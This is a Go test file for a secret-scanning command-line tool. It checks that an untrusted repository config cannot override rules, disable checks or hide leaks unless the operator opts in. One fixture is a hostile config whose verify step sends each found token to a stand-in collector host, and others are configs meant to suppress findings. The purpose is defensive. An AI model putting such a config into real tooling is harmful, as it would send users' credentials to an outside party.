package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tokenward/tokenward/finding"
	"github.com/tokenward/tokenward/sweep/sweeptest"
)

// hostileConfig replaces the built-in rule of the seed token with one that
// sends every token it finds to a host of the repository author's choosing. No
// request is made in these tests: loading fails before any scan.
const hostileConfig = `[[rule]]
id = "authorization-token-header"
regex = '''Authorization: Token ([A-Za-z0-9]{32})'''
keywords = ["authorization"]
[rule.verify]
base_url = "https://collector.invalid"
[[rule.verify.step]]
url = "{{base}}/collect?t={{secret}}"
[[rule.verify.step.match]]
status = [200]
result = "live"
`

// A configuration found in the scanned tree cannot replace built-in rules, name
// verification hosts or switch checks off; the operator can opt in.
func TestRepoConfigIsNotTrusted(t *testing.T) {
	cases := []struct {
		name, config, want string
	}{
		{"replaces a built-in rule and names a verify host", hostileConfig, "rule.verify"},
		{"disables a built-in rule", "disabled = [\"authorization-token-header\"]\n", "disabled"},
		{"drops the built-in rules", "[extend]\nbuiltin = false\n[[rule]]\nid = \"x-y\"\nregex = '''abcdef'''\n", "extend.builtin"},
		{"switches hygiene off", "[hygiene]\nenabled = false\n", "hygiene.enabled"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := tree(t, map[string]string{".tokenward.toml": c.config, "deploy.sh": leaked, "r.json": "[]\n"})
			for _, args := range [][]string{{"scan", "."}, {"scan", "--verify", "."}, {"rules", "list"}, {"verify", "r.json"}, {"revoke", "r.json"}} {
				r := tokenward(t, dir, "", args...)
				if r.code != 2 || !strings.Contains(r.stderr, ".tokenward.toml:") || !strings.Contains(r.stderr, c.want) || !strings.Contains(r.stderr, "--trust-repo-config") {
					t.Errorf("%v: exit %d, stderr %q; want exit 2 naming the file, %q and --trust-repo-config", args, r.code, r.stderr, c.want)
				}
				if strings.Contains(r.stdout, "collector.invalid") || strings.Contains(r.stderr, token) {
					t.Errorf("%v: output leaks: %s%s", args, r.stdout, r.stderr)
				}
			}
			// The opt-ins load it (no --verify: nothing is sent anywhere).
			for _, args := range [][]string{{"scan", "--trust-repo-config", "."}, {"scan", "--config", ".tokenward.toml", "."}} {
				if r := tokenward(t, dir, "", args...); r.code == 2 {
					t.Errorf("%v: exit 2: %s", args, r.stderr)
				}
			}
		})
	}
}

// Scanning a subdirectory of a repository applies the configuration and the
// ignore file at the repository's top; --config wins.
func TestConfigDiscoveryFromSubdirectory(t *testing.T) {
	dir := newGitRepo(t)
	acme := "k = acme_q8z1m3x7r5w1y6n4h0j3\n"
	writeGitFile(t, filepath.Join(dir, ".tokenward.toml"), "[[rule]]\nid = \"acme-key\"\nregex = '''acme_[a-z0-9]{20}'''\n")
	writeGitFile(t, filepath.Join(dir, ".tokenwardignore"), "svc/fixtures/\n")
	writeGitFile(t, filepath.Join(dir, "svc", "app.sh"), acme)
	writeGitFile(t, filepath.Join(dir, "svc", "fixtures", "f.sh"), acme+leaked)
	writeGitFile(t, filepath.Join(dir, "other.toml"), "[[rule]]\nid = \"other-key\"\nregex = '''acme_[a-z0-9]{20}'''\n")
	gitIn(t, dir, "add", "-A")
	gitIn(t, dir, "commit", "-q", "-m", "init")

	sub := filepath.Join(dir, "svc")
	r := tokenward(t, sub, "", "scan", ".", "-f", "jsonl")
	if r.code != 1 || !strings.Contains(r.stdout, `"acme-key"`) || strings.Contains(r.stdout, "fixtures") {
		t.Errorf("scan . in svc/: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = tokenward(t, dir, "", "scan", "svc", "-f", "jsonl")
	if r.code != 1 || !strings.Contains(r.stdout, `"acme-key"`) || strings.Contains(r.stdout, "fixtures") {
		t.Errorf("scan svc from the top: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = tokenward(t, sub, "", "scan", ".", "-f", "jsonl", "--config", filepath.Join(dir, "other.toml"))
	if !strings.Contains(r.stdout, `"other-key"`) || strings.Contains(r.stdout, `"acme-key"`) {
		t.Errorf("--config wins: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = tokenward(t, sub, "", "git", "-f", "jsonl")
	if r.code != 1 || !strings.Contains(r.stdout, `"acme-key"`) {
		t.Errorf("git in svc/: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
}

// git --range BASE..HEAD reads .tokenward.toml and .tokenwardignore as of BASE:
// the commits under review cannot weaken their own check.
func TestRangeReadsConfigFromBase(t *testing.T) {
	dir := newGitRepo(t)
	acme := "k = acme_q8z1m3x7r5w1y6n4h0j3\n"
	writeGitFile(t, filepath.Join(dir, ".tokenward.toml"), "[[rule]]\nid = \"acme-key\"\nregex = '''acme_[a-z0-9]{20}'''\n")
	writeGitFile(t, filepath.Join(dir, "README"), "hello\n")
	gitIn(t, dir, "add", "-A")
	gitIn(t, dir, "commit", "-q", "-m", "base")
	gitIn(t, dir, "checkout", "-q", "-b", "pr")
	// The pull request adds two secrets, and a config and ignore file that would
	// hide them: the config drops the acme rule, the ignore file lists the
	// token's fingerprint and the path.
	fp := finding.Fingerprint("authorization-token-header", token)
	writeGitFile(t, filepath.Join(dir, ".tokenward.toml"), "# nothing to see\n")
	writeGitFile(t, filepath.Join(dir, ".tokenwardignore"), fp+"\nsrc/\n")
	writeGitFile(t, filepath.Join(dir, "src", "deploy.sh"), leaked+acme)
	gitIn(t, dir, "add", "-A")
	gitIn(t, dir, "commit", "-q", "-m", "pr")

	r := tokenward(t, dir, "", "git", "--range", "main..pr", "-f", "jsonl")
	if r.code != 1 || !strings.Contains(r.stdout, `"acme-key"`) || !strings.Contains(r.stdout, `"authorization-token-header"`) {
		t.Errorf("git --range main..pr: exit %d, want both secrets reported\n%s%s", r.code, r.stdout, r.stderr)
	}
	// A config at BASE is as untrusted as one in the work tree.
	gitIn(t, dir, "checkout", "-q", "main")
	writeGitFile(t, filepath.Join(dir, ".tokenward.toml"), "disabled = [\"authorization-token-header\"]\n")
	gitIn(t, dir, "commit", "-q", "-am", "weaken on main")
	gitIn(t, dir, "checkout", "-q", "pr")
	// main...pr starts from the merge base, whose config only adds a rule.
	if r = tokenward(t, dir, "", "git", "--range", "main...pr", "-f", "jsonl"); r.code != 1 || !strings.Contains(r.stdout, `"acme-key"`) {
		t.Errorf("git --range main...pr: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = tokenward(t, dir, "", "git", "--range", "main..pr")
	if r.code != 2 || !strings.Contains(r.stderr, "disabled") || !strings.Contains(r.stderr, "--trust-repo-config") {
		t.Errorf("untrusted config at BASE: exit %d, stderr %q", r.code, r.stderr)
	}
}

func TestGitEdgeCasesAreNotSilent(t *testing.T) {
	dir := newGitRepo(t)
	writeGitFile(t, filepath.Join(dir, "deploy.sh"), leaked)
	gitIn(t, dir, "add", "-A")
	gitIn(t, dir, "commit", "-q", "-m", "base")
	gitIn(t, dir, "update-index", "--add", "--cacheinfo", "160000,"+strings.Repeat("ab", 20)+",vendor/lib")
	gitIn(t, dir, "commit", "-q", "-m", "submodule")

	for _, spec := range []string{"..HEAD", "HEAD.."} {
		if r := tokenward(t, dir, "", "git", "--range", spec); r.code != 2 || !strings.Contains(r.stderr, "empty") {
			t.Errorf("--range %s: exit %d, stderr %q; want a usage error", spec, r.code, r.stderr)
		}
	}
	r := tokenward(t, dir, "", "git")
	if r.code != 1 || !strings.Contains(r.stderr, "vendor/lib") || !strings.Contains(r.stderr, "submodule") {
		t.Errorf("history with a submodule: exit %d, stderr %q; want the submodule named", r.code, r.stderr)
	}
	cmd := gitCmdIn(dir)
	cmd.Path = binary
	cmd.Args = []string{binary, "git", "--staged"}
	cmd.Env = append(cmd.Env, "GIT_INDEX_FILE="+filepath.Join(dir, "no-such-index"))
	out, err := cmd.CombinedOutput()
	if code := cmd.ProcessState.ExitCode(); err == nil || code != 2 || !strings.Contains(string(out), "GIT_INDEX_FILE") {
		t.Errorf("--staged with a missing GIT_INDEX_FILE: exit %d\n%s", code, out)
	}
}

// [extend] builtin = false with no rules of its own: hygiene only, no crash.
func TestConfigWithoutRules(t *testing.T) {
	dir := tree(t, map[string]string{"only.toml": "[extend]\nbuiltin = false\n", "a.txt": leaked})
	r := tokenward(t, dir, "", "scan", "--config", "only.toml", ".")
	if r.code != 0 || strings.Contains(r.stderr, "internal error") {
		t.Errorf("exit %d, stderr %q; want a clean scan with no rules", r.code, r.stderr)
	}
}

// A corrupt input leaves no partial output store behind, and an existing one as
// it was.
func TestMergeCorruptInputLeavesNoPartialOutput(t *testing.T) {
	sweeptest.NeedGit(t)
	work := t.TempDir()
	orgOnDisk(t, work, 1)
	if err := os.WriteFile(filepath.Join(work, "repos.txt"), []byte("r00.git\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if r := tokenward(t, work, "", "sweep", "--repos", "repos.txt", "--db", "good.db", "--progress", "none", "--exit-code", "0"); r.code != 0 {
		t.Fatalf("sweep: exit %d\n%s", r.code, r.stderr)
	}
	if err := os.WriteFile(filepath.Join(work, "corrupt.db"), []byte("this is not a database, just some bytes that look like nothing at all\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := tokenward(t, work, "", "merge", "-o", "out.db", "good.db", "corrupt.db")
	if r.code != 2 || !strings.Contains(r.stderr, "corrupt.db") {
		t.Errorf("merge with a corrupt input: exit %d, stderr %q", r.code, r.stderr)
	}
	if _, err := os.Stat(filepath.Join(work, "out.db")); err == nil {
		t.Error("merge left a partial out.db")
	}
	// An existing output is left as it was.
	if r := tokenward(t, work, "", "merge", "-o", "out.db", "good.db"); r.code != 0 {
		t.Fatalf("merge: exit %d %s", r.code, r.stderr)
	}
	before := sweeptest.Canonical(t, filepath.Join(work, "out.db"))
	orgOnDisk(t, filepath.Join(work, "more"), 2)
	if err := os.WriteFile(filepath.Join(work, "repos2.txt"), []byte("more/r01.git\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if r := tokenward(t, work, "", "sweep", "--repos", "repos2.txt", "--db", "other.db", "--progress", "none", "--exit-code", "0"); r.code != 0 {
		t.Fatalf("sweep: exit %d\n%s", r.code, r.stderr)
	}
	if r := tokenward(t, work, "", "merge", "-o", "out.db", "other.db", "corrupt.db"); r.code != 2 {
		t.Errorf("merge into an existing store with a corrupt input: exit %d", r.code)
	}
	if after := sweeptest.Canonical(t, filepath.Join(work, "out.db")); after != before {
		t.Errorf("a failed merge changed out.db")
	}
	entries, _ := os.ReadDir(work)
	for _, e := range entries {
		if strings.Contains(e.Name(), ".tmp") {
			t.Errorf("temporary file %s left behind", e.Name())
		}
	}
}

// One missing path in --repos is a problem for that entry; the others are swept.
func TestSweepReposMissingPathSweepsTheRest(t *testing.T) {
	sweeptest.NeedGit(t)
	work := t.TempDir()
	orgOnDisk(t, work, 1)
	if err := os.WriteFile(filepath.Join(work, "repos.txt"), []byte("no/such/repo\nhttps://deploy:hunter2pass@[::1/x.git\nr00.git\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := tokenward(t, work, "", "sweep", "--repos", "repos.txt", "--db", "s.db", "--progress", "none")
	if r.code != 2 || !strings.Contains(r.stderr, "repos.txt:1:") || !strings.Contains(r.stderr, "repos.txt:2:") {
		t.Errorf("exit %d, stderr %q; want exit 2 naming repos.txt:1 and :2", r.code, r.stderr)
	}
	if strings.Contains(r.stderr, "hunter2pass") {
		t.Errorf("stderr repeats a credential: %s", r.stderr)
	}
	if n := reposCount(t, filepath.Join(work, "s.db")); n != 1 {
		t.Errorf("%d repositories swept, want 1 (r00)", n)
	}
}

// The pre-commit hook applies the trust model too; hook install
// --trust-repo-config (or --config FILE) writes the opt-in into the hook.
func TestHookInstallTrust(t *testing.T) {
	dir := newGitRepo(t)
	writeGitFile(t, filepath.Join(dir, ".tokenward.toml"), "disabled = [\"authorization-token-header\"]\n")
	writeGitFile(t, filepath.Join(dir, "deploy.sh"), leaked)
	gitIn(t, dir, "add", "-A")
	if r := tokenward(t, dir, "", "hook", "install"); r.code != 0 {
		t.Fatalf("hook install: exit %d\n%s", r.code, r.stderr)
	}
	if out, err := gitCmdIn(dir, "commit", "-q", "-m", "x").CombinedOutput(); err == nil || !strings.Contains(string(out), "--trust-repo-config") {
		t.Fatalf("an untrusted config passed the hook (%v):\n%s", err, out)
	}
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"--trust-repo-config"}, "'--trust-repo-config'"},
		{[]string{"--config", ".tokenward.toml"}, "'--config' '.tokenward.toml'"},
	} {
		if r := tokenward(t, dir, "", append([]string{"hook", "install", "--force"}, c.args...)...); r.code != 0 {
			t.Fatalf("hook install %v: exit %d\n%s", c.args, r.code, r.stderr)
		}
		hook, err := os.ReadFile(filepath.Join(dir, ".git", "hooks", "pre-commit"))
		if err != nil || !strings.Contains(string(hook), c.want) {
			t.Fatalf("hook lacks %s (%v):\n%s", c.want, err, hook)
		}
		if out, err := gitCmdIn(dir, "commit", "-q", "--allow-empty", "-m", "trusted").CombinedOutput(); err != nil {
			t.Fatalf("hook with %v: %v\n%s", c.args, err, out)
		}
	}
	if r := tokenward(t, dir, "", "hook", "install", "--force", "--config", "missing.toml"); r.code != 2 {
		t.Errorf("hook install --config missing.toml: exit %d, want 2", r.code)
	}
}
